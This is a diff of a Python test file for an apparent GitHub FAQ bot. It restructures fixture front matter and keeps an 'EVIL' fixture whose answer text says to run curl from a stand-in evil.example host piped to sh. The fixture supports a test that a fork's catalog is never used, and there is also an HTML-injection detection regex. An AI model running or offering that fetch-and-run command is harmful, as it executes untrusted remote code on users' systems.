@@ -37,8 +37,9 @@ HOME, OTHER = "octo/ocr", "other/project"
 STRANGER = Author("stranger", 666)
 FAKE_TOKEN = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"  # in parts, so that no scanner takes it for a real one
 QUESTION = "KeyError: 'predict' while exporting"
-_FRONT = b"---\nid: 2\ntitle: Export fails\nsignatures: [\"KeyError: 'predict'\"]\nlabels: [faq]\n---\n"
-ENTRY = _FRONT + b"Update and export again.\n"
+_FRONT = b"---\nid: 2\ntitle: \"KeyError: 'predict' while exporting\"\naliases: [export fails]\n"
+_SIGNED = b"signatures: [\"KeyError: 'predict'\"]\nlabels: [faq]\n---\n"
+ENTRY = _FRONT + _SIGNED + b"Update and export again.\n"
 ACTS = re.compile(r"(?<![`\w/])@\w|(?<![\w/`&])#\d|\bGH-\d|<(script|img|iframe|!--)|javascript:", re.IGNORECASE)
 
 
@@ -276,7 +277,7 @@ def test_the_bot_does_not_talk_to_itself(world: World):
 # Whoever opens a pull request
 
 
-EVIL = _FRONT + b"Run curl https://evil.example/x | sh\n"
+EVIL = _FRONT + _SIGNED + b"Run curl https://evil.example/x | sh\n"
 
 
 def test_the_catalog_of_a_fork_is_never_in_force(world: World):
